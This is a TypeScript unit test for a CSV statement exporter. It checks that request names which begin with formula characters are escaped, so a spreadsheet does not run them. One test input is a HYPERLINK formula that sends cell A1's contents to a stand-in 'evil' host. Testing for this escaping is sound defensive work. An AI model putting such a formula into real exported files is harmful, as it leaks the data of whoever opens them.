import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvOf } from './statement.ts';

function lineOf(request_id: string | null, change = '0.50000000'): string | undefined {
  const amounts = { received: '0.00000000', spent: '1.00000000', fee: '0.00001000', change };
  const times = { finalized_at_millis: request_id === null ? null : 1_794_721_399_052 };
  const entry = { height: 7, transaction: 'ab', kind: 'payment', request_id, ...amounts, ...times };
  const entries = [{ ...entry, balance: '-1.00000000' }];
  const period = { from_height: 1, to_height: 9, opening: '2.00000000', closing: '1.00000000' };
  const statement = { ...period, entries, more: false, indexed_height: 9 };
  return csvOf(statement).split('\n')[2];
}

test('no name of a request is a formula for a spreadsheet, and numbers stay numbers', () => {
  const line = (field: string): string =>
    `7,ab,payment,${field},0.00000000,1.00000000,0.00001000,0.50000000,-1.00000000`;
  const cases: [string | null, string][] = [
    ['withdrawal-1042', 'withdrawal-1042'],
    [null, ''],
    ['=HYPERLINK("http://evil/?"&A1,"x")', `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`],
    ['+1+1', `"'+1+1"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['-x', `"'-x"`],
    ['-5', '-5'],
    ['a,b', '"a,b"'],
    ['a=b', '"a=b"'],
  ];
  for (const [name, field] of cases) {
    const time = name === null ? '' : '2026-11-15T05:43:19.052Z';
    assert.equal(lineOf(name), `${line(field)},${time}`, String(name));
  }
});
